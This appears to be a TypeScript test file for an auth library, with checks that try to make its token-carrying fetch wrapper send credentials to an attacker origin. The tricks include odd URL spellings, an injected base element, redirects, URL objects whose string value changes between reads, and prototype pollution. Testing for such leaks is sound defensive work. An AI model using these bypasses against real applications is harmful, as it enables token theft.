import type { Check } from '../check.js'

/** Group E: where requests with the token go. The harness searches every request that the attacker's origin gets. */
export const destinations: Check[] = [
  {
    id: 'E1-other-origin',
    title: 'asks auth.fetch for another origin',
    reap: ({ evil }) => auth.fetch(`${evil}/plain`).catch(() => {}),
  },
  {
    id: 'E1-spellings',
    title: 'asks auth.fetch for odd spellings of another origin',
    reap: async ({ api, evil }) => {
      const host = new URL(evil).host
      const odd = [`${api}@${host}/`, `//${host}/x`, `\\\\${host}\\x`, `http:/\\${host}/`, `\t${evil}/tab`]
      for (const url of [...odd, evil.replace('http', 'HTTP'), evil.replace('localhost', 'LOCALHOST')])
        await Promise.resolve()
          .then(() => auth.fetch(url))
          .catch(() => {})
    },
  },
  {
    id: 'E3-base',
    title: 'moves relative addresses by a base element',
    reap: async ({ evil }) => {
      const base = document.createElement('base')
      base.href = `${evil}/`
      document.head.append(base)
      await auth.fetch('api/v1/me').catch(() => {})
      await auth.fetch('/api/v1/me').catch(() => {})
    },
  },
  {
    id: 'E2-redirect',
    title: 'has the API redirect to another origin',
    prepare: (api, { evil }) => {
      const headers = { location: `${evil}/redirected` }
      api.faults.add({ route: 'me', kind: 'answer', status: 307, body: '', headers })
    },
    reap: async ({ api, evil }) => {
      await auth.fetch(`${api}/api/v1/me`).catch(() => {})
      await auth.fetch(`${evil}/then`).catch(() => {})
    },
  },
  {
    id: 'A7-changing',
    title: 'gives auth.fetch an address that changes when it is read again',
    reap: async ({ api, evil }) => {
      let reads = 0
      const url = { toString: () => (reads++ % 2 ? `${evil}/second` : `${api}/api/v1/me`) }
      for (let times = 0; times < 3; times += 1) {
        await auth.fetch(url as never).catch(() => {})
        await auth
          .fetch(Object.assign(new URL(`${api}/api/v1/me`), { toString: () => `${evil}/own` }))
          .catch(() => {})
        reads += 1
      }
    },
  },
  {
    id: 'A7-init',
    title: 'gives auth.fetch an init with getters for another origin',
    reap: async ({ evil }) => {
      const init = {
        get url() {
          return `${evil}/init`
        },
        headers: { origin: evil, host: evil },
        referrer: evil,
      }
      await auth.fetch(`${evil}/with-init`, init as never).catch(() => {})
    },
  },
  {
    id: 'E7-origins',
    title: 'puts origins on Object.prototype',
    arm: ({ evil }) => {
      for (const name of ['origins', 'allowedOrigins'])
        Object.defineProperty(Object.prototype, name, {
          configurable: true,
          get: () => [evil],
          set(value) {
            Object.defineProperty(this, name, { value, configurable: true, enumerable: true, writable: true })
          },
        })
    },
    reap: ({ evil }) => auth.fetch(`${evil}/polluted`).catch(() => {}),
  },
]
